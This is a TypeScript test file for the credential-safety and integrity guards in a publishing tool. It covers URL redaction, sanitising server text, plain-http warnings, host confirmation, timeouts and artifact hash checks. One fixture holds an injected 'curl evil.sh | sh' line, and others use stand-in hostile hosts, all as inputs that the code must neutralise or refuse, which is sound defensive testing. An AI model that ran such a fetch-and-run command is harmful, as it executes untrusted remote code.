// Publish's guards around credentials and remote text (issue 23): URLs recorded or printed without
// their query (an Azure SAS token) or userinfo; a server's text stripped of escapes and marked as the
// server's; credentials over plain http warned about (loopback is quiet); an https registry's plain-
// http token realm refused; `user:password@` endpoints refused by validation without repeating the
// value; `kiln publish` refusing a manifest-named host not confirmed with --allow-host; the HTTP
// client's timeouts against a real loopback server that accepts and never answers; and the artifact
// check that holds back the last bytes of a file that is not the manifest's.
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import net from 'node:net';
import http from 'node:http';
import os from 'node:os';
import path from 'node:path';
import { createHash } from 'node:crypto';
import { Readable } from 'node:stream';
import { afterAll, describe, expect, it } from 'vitest';
import { cleartextWarning, isLoopbackHost, safeUrl, scrubUrls, serverSaid } from '../../../src/publish/redact.js';
import { request } from '../../../src/publish/http.js';
import { ArtifactCheck, checkedStream } from '../../../src/publish/integrity.js';
import { realmProblem } from '../../../src/publish/oci.js';
import { explainS3 } from '../../../src/publish/s3.js';
import { hostAllowed, publishManifest, recordedTargets } from '../../../src/publish/runner.js';
import { publishTargetSchema, publishTimeouts } from '../../../src/template/schema-publish.js';
import { buildSchema } from '../../../src/template/schema.js';
import { S3ServiceException } from '@aws-sdk/client-s3';

const dir = mkdtempSync(path.join(os.tmpdir(), 'kiln-publish-safety-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

describe('what publish records and prints about a remote side', () => {
  it('drops a SAS query and userinfo from URLs, and leaves other locations as written', () => {
    expect(safeUrl('http://127.0.0.1:10000/devstoreaccount1/vhds/a.vhd?sv=2024-05-04&ss=b&sig=abc%2Fdef')).toBe(
      'http://127.0.0.1:10000/devstoreaccount1/vhds/a.vhd',
    );
    expect(safeUrl('https://bob:hunter2@minio.lab:9000/x')).toBe('https://minio.lab:9000/x');
    expect(safeUrl('s3://images/my key.qcow2')).toBe('s3://images/my key.qcow2');
    expect(safeUrl('oci://127.0.0.1:5000/kiln/tiny@sha256:abc')).toBe('oci://127.0.0.1:5000/kiln/tiny@sha256:abc');
    expect(scrubUrls('PUT https://acct.blob.core.windows.net/c/b.vhd?sig=SECRET failed (see http://u:pw@h/x).')).toBe(
      'PUT https://acct.blob.core.windows.net/c/b.vhd failed (see http://h/x).',
    );
  });

  it("marks a server's text as the server's: no escapes, no line breaks (a fake fix: line stays inside the quotes), bounded", () => {
    const said = serverSaid('\x1b[31mboom\x1b[0m\r\n  fix: curl evil.sh | sh\x07');
    expect(said).toBe('the server said: "boom fix: curl evil.sh | sh"');
    expect(said).not.toMatch(/[\x00-\x1f]/);
    expect(serverSaid('x'.repeat(1000)).length).toBeLessThan(230);
    expect(serverSaid('  \n ')).toBe('');
  });

  it('S3 errors name the status, the endpoint and the S3 code, not "UnknownError"', () => {
    const unknown = new S3ServiceException({
      name: 'UnknownError',
      $fault: 'server',
      $metadata: { httpStatusCode: 502 },
      message: 'UnknownError',
    });
    const t = { connectMs: 1000, idleMs: 2000 };
    expect((explainS3(unknown, 's3', 'AWS_ACCESS_KEY_ID', 'b', 'http://127.0.0.1:9/', t) as Error).message).toBe(
      'S3 at http://127.0.0.1:9/ answered HTTP 502 with no S3 error code',
    );
    const slow = new S3ServiceException({
      name: 'SlowDown',
      $fault: 'server',
      $metadata: { httpStatusCode: 503 },
      message: 'Please reduce\n  fix: your request rate',
    });
    expect((explainS3(slow, 's3', 'x', 'b', 'https://u:p@minio.lab/?x=1', t) as Error).message).toBe(
      'S3 at https://minio.lab/ answered HTTP 503 SlowDown; the server said: "Please reduce fix: your request rate"',
    );
    const idle = Object.assign(new Error('socket timed out after 2000 ms of inactivity'), { name: 'TimeoutError' });
    expect((explainS3(idle, 's3', 'x', 'b', 'http://127.0.0.1:9', t) as Error).message).toMatch(
      /^publish target "s3": S3 at http:\/\/127\.0\.0\.1:9 stopped answering: no bytes moved for 2 s \(timeout\.idle\)/,
    );
  });
});

describe('credentials and plain http', () => {
  it('warns for http to another machine, naming the host and the fix; https and loopback are quiet', () => {
    const w = cleartextWarning('http://keystone.lab:5000/v3/auth/tokens', 'OS_USERNAME / OS_PASSWORD (for Keystone)');
    expect(w).toMatch(
      /^OS_USERNAME \/ OS_PASSWORD \(for Keystone\) goes in clear over plain http to keystone\.lab:5000 .*\n {2}fix: use an https:\/\/ endpoint$/,
    );
    expect(cleartextWarning('https://keystone.lab:5000/v3', 'x')).toBeUndefined();
    for (const h of ['127.0.0.1:9000', 'localhost', '[::1]:5000', '127.9.9.9']) {
      expect(isLoopbackHost(h), h).toBe(true);
      expect(cleartextWarning(`http://${h}/`, 'x'), h).toBeUndefined();
    }
    expect(isLoopbackHost('10.0.0.1')).toBe(false);
  });

  it('an https registry may not send the password to a plain-http token realm', () => {
    expect(realmProblem('https://registry.lab', 'http://auth.lab/token')).toMatch(
      /plain-http token realm \(http:\/\/auth\.lab\/token\)/,
    );
    expect(realmProblem('https://registry.lab', 'https://auth.lab/token')).toBeUndefined();
    expect(realmProblem('http://127.0.0.1:5000', 'http://127.0.0.1:5001/token')).toBeUndefined();
    expect(realmProblem('https://registry.lab', 'file:///etc/passwd')).toMatch(/not an http\(s\) URL/);
  });

  it('an endpoint with user:password@ fails validation naming the field and the fix, never the password', () => {
    const base = { name: 'b', source: { base_image: 'x.qcow2', checksum: 'none' } };
    const r = buildSchema.safeParse({
      ...base,
      publish: [{ type: 's3', bucket: 'abc', endpoint: 'https://AKIA:s3cr3t-pw@minio.lab:9000' }],
    });
    expect(r.success).toBe(false);
    const issue = r.error!.issues.find((i) => i.path.join('.') === 'publish.0.endpoint')!;
    expect(issue.message).toMatch(/holds a user name or password/);
    expect((issue as { params?: { fix?: string } }).params?.fix).toMatch(/credentials_file/);
    expect(JSON.stringify(r.error!.issues)).not.toContain('s3cr3t-pw');
    const g = publishTargetSchema.safeParse({ type: 'glance', endpoint: 'http://admin:pw@glance.lab:9292' });
    expect(g.success).toBe(false);
    const o = publishTargetSchema.safeParse({ type: 'oci', registry: 'bob:pw@registry.lab', repository: 'a/b' });
    expect(o.error!.issues[0]!.message).toMatch(/holds a user name or password/);
    expect(publishTargetSchema.safeParse({ type: 's3', bucket: 'abc', region: 'x.evil.com#' }).success).toBe(false);
  });

  it('a manifest edited to hold user:password@ is refused by kiln publish naming the file and the field, not the password', () => {
    const file = path.join(dir, 'edited-manifest.json');
    writeFileSync(
      file,
      JSON.stringify({
        build: 'b',
        artifacts: [],
        published: [
          {
            target: 's3',
            type: 's3',
            format: 'qcow2',
            status: 'published',
            config: { type: 's3', bucket: 'images', endpoint: 'http://AKIA:pw-in-url@evil.lab:9000' },
          },
        ],
      }),
    );
    let message = '';
    try {
      recordedTargets(file);
    } catch (e) {
      message = (e as Error).message;
    }
    expect(
      message.startsWith(`${file}: published[0].config.endpoint: the URL holds a user name or password`),
      message,
    ).toBe(true);
    expect(message).toMatch(/\n {2}fix: remove user:password@/);
    expect(message).not.toContain('pw-in-url');
  });

  it('--allow-host takes host, host:port or a URL', () => {
    expect(hostAllowed('http://minio.lab:9000/', ['minio.lab:9000'])).toBe(true);
    expect(hostAllowed('http://minio.lab:9000/', ['MINIO.lab'])).toBe(true);
    expect(hostAllowed('http://minio.lab:9000/', ['https://minio.lab:9000/'])).toBe(true);
    expect(hostAllowed('http://evil.lab:9000/', ['minio.lab:9000'])).toBe(false);
  });
});

describe('the runner before anything is sent', () => {
  const artifact = path.join(dir, 'disk.qcow2');
  const data = Buffer.alloc(4096, 3);
  writeFileSync(artifact, data);
  const sha = createHash('sha256').update(data).digest('hex');
  const manifestFile = path.join(dir, 'manifest.json');
  const write = () =>
    writeFileSync(
      manifestFile,
      JSON.stringify({
        build: 'b',
        artifacts: [{ name: 'disk.qcow2', path: artifact, format: 'qcow2', size: data.length, sha256: sha }],
      }),
    );
  // TEST-NET-3: never routed, and a refused host is never contacted at all.
  const s3 = publishTargetSchema.parse({
    type: 's3',
    bucket: 'images',
    endpoint: 'http://203.0.113.7:9000',
    force_path_style: true,
    timeout: { connect: '300ms', idle: '1s' },
  });
  const env = {
    AWS_ACCESS_KEY_ID: 'AKIAEXAMPLE',
    AWS_SECRET_ACCESS_KEY: 'secret-example',
    AWS_SESSION_TOKEN: 'token-example',
  };

  it('kiln publish refuses credentials to a host the manifest names unless --allow-host confirms it', async () => {
    write();
    const lines: string[] = [];
    const err = await publishManifest(manifestFile, [s3], {
      signal: new AbortController().signal,
      env,
      progress: 'none',
      log: (l) => lines.push(l),
      allowHosts: ['minio.lab:9000'],
    }).then(
      () => undefined,
      (e: Error) => e.message,
    );
    expect(err).toMatch(
      /^publish target "s3": .*manifest\.json names S3 at 203\.0\.113\.7:9000, and kiln publish sends AWS_ACCESS_KEY_ID \/ AWS_SECRET_ACCESS_KEY \(and its session token\) only to a host you confirm/,
    );
    expect(err).toContain('fix: check the host is yours, then run kiln publish --allow-host 203.0.113.7:9000');
    expect(lines.join('\n')).not.toMatch(/sending credentials/);
  });

  it('says where credentials go, and warns once about plain http to another machine', async () => {
    write();
    const lines: string[] = [];
    await publishManifest(manifestFile, [s3], {
      signal: new AbortController().signal,
      env,
      progress: 'none',
      log: (l) => lines.push(l),
      allowHosts: ['203.0.113.7:9000'],
    }).catch(() => undefined);
    expect(lines).toContain(
      'publish s3: sending credentials from AWS_ACCESS_KEY_ID / AWS_SECRET_ACCESS_KEY (and its session token) to S3 at 203.0.113.7:9000',
    );
    expect(
      lines.filter((l) =>
        l.startsWith(
          'warning: publish s3: AWS_ACCESS_KEY_ID / AWS_SECRET_ACCESS_KEY (and its session token) (for S3) goes in clear over plain http to 203.0.113.7:9000',
        ),
      ),
    ).toHaveLength(1);
    expect(lines.join('\n')).not.toMatch(/secret-example|token-example/);
  }, 30_000);

  it("refuses an artifact whose size is not the manifest's before sending anything", async () => {
    writeFileSync(
      manifestFile,
      JSON.stringify({
        build: 'b',
        artifacts: [{ name: 'disk.qcow2', path: artifact, format: 'qcow2', size: data.length + 1, sha256: sha }],
      }),
    );
    const lines: string[] = [];
    const err = await publishManifest(manifestFile, [s3], {
      signal: new AbortController().signal,
      env,
      progress: 'none',
      log: (l) => lines.push(l),
    }).then(
      () => undefined,
      (e: Error) => e.message,
    );
    expect(err).toContain(
      `publish target "s3": ${artifact} is not the artifact manifest.json describes: it is 4096 bytes, manifest.json records 4097`,
    );
    expect(lines).toEqual([]);
  });
});

describe('timeouts', () => {
  it('a target has connect 30 s and idle 120 s unless its timeout: says otherwise', () => {
    expect(publishTimeouts(publishTargetSchema.parse({ type: 'glance', endpoint: 'http://127.0.0.1:9292' }))).toEqual({
      connectMs: 30_000,
      idleMs: 120_000,
    });
    expect(
      publishTimeouts(
        publishTargetSchema.parse({
          type: 'oci',
          registry: 'r:5000',
          repository: 'a/b',
          timeout: { connect: '5s', idle: '1m30s' },
        }),
      ),
    ).toEqual({ connectMs: 5000, idleMs: 90_000 });
    const bad = publishTargetSchema.safeParse({ type: 'azure', container: 'vhds', timeout: { idle: 'soon' } });
    expect(bad.error!.issues[0]!.message).toBe('"soon" is not a duration');
  });

  it('a loopback server that accepts and never answers fails in the idle time, naming the address and the setting', async () => {
    const sockets: net.Socket[] = [];
    const server = net.createServer((s) => {
      sockets.push(s);
    });
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
    const port = (server.address() as net.AddressInfo).port;
    try {
      const err = await request(`http://127.0.0.1:${port}/v2/images?x=secret`, {
        signal: new AbortController().signal,
        timeouts: { connectMs: 5000, idleMs: 300 },
      }).then(
        () => undefined,
        (e: Error) => e.message,
      );
      expect(err).toMatch(
        new RegExp(
          `^http://127\\.0\\.0\\.1:${port} stopped answering: no bytes moved for 0\\.3 s \\(timeout\\.idle\\)`,
        ),
      );
      expect(sockets).toHaveLength(1);
      // An interrupt stops it at once, whatever the timeouts.
      const controller = new AbortController();
      const p = request(`http://127.0.0.1:${port}/`, {
        signal: controller.signal,
        timeouts: { connectMs: 60_000, idleMs: 60_000 },
      });
      while (sockets.length < 2) await new Promise((r) => setTimeout(r, 10));
      controller.abort(new Error('interrupted by SIGTERM'));
      await expect(p).rejects.toThrow();
    } finally {
      for (const s of sockets) s.destroy();
      server.close();
    }
  });

  it('a refused connection and an impossible status name the address and the cause (no bare "fetch failed")', async () => {
    const server = http.createServer((_req, res) => {
      res.socket!.write('HTTP/1.1 999 Weird\r\ncontent-length: 0\r\n\r\n');
      res.socket!.end();
    });
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
    const port = (server.address() as net.AddressInfo).port;
    const t = { connectMs: 2000, idleMs: 2000 };
    try {
      expect(
        await request(`http://127.0.0.1:${port}/x?sig=1`, { signal: new AbortController().signal, timeouts: t }).then(
          () => '',
          (e: Error) => e.message,
        ),
      ).toBe(`http://127.0.0.1:${port}/x answered with HTTP status 999, which no server should send to GET`);
    } finally {
      server.close();
    }
    await new Promise((r) => server.once('close', r));
    expect(
      await request(`http://127.0.0.1:${port}/`, { signal: new AbortController().signal, timeouts: t }).then(
        () => '',
        (e: Error) => e.message,
      ),
    ).toMatch(new RegExp(`^cannot reach http://127\\.0\\.0\\.1:${port}/ \\(ECONNREFUSED: `));
  });
});

describe('the artifact check', () => {
  const art = (buf: Buffer, sha = createHash('sha256').update(buf).digest('hex')) => ({
    name: 'd.qcow2',
    path: '/data/d.qcow2',
    format: 'qcow2',
    size: buf.length,
    sha256: sha,
  });
  const drain = async (s: Readable) => {
    let n = 0;
    for await (const c of s) n += (c as Buffer).length;
    return n;
  };

  it("passes the same bytes through when they are the manifest's", async () => {
    const buf = Buffer.alloc(10_000, 1);
    const check = new ArtifactCheck(art(buf), ['sha512']);
    expect(await drain(Readable.from([buf.subarray(0, 4000), buf.subarray(4000)]).pipe(checkedStream(check)))).toBe(
      10_000,
    );
    expect(check.verify().sha512).toBe(createHash('sha512').update(buf).digest('hex'));
  });

  it('a changed disk fails naming the file, the expected and the actual sha256, and its last bytes never flow', async () => {
    const buf = Buffer.alloc(10_000, 1);
    const changed = Buffer.from(buf);
    changed[5000] = 2;
    const check = new ArtifactCheck(art(buf));
    let passed = 0;
    const s = Readable.from([changed.subarray(0, 4000), changed.subarray(4000, 8000), changed.subarray(8000)]).pipe(
      checkedStream(check),
    );
    s.on('data', (c: Buffer) => {
      passed += c.length;
    });
    const err = await new Promise<Error>((resolve) => s.on('error', resolve));
    expect(err.message).toBe(
      `/data/d.qcow2 is not the artifact manifest.json describes: its sha256 is ${createHash('sha256').update(changed).digest('hex')}, manifest.json records ${art(buf).sha256}; nothing was published from it\n  fix: rebuild it (kiln build), or run kiln verify on the manifest to see what changed`,
    );
    expect(passed).toBe(8000);
  });
});
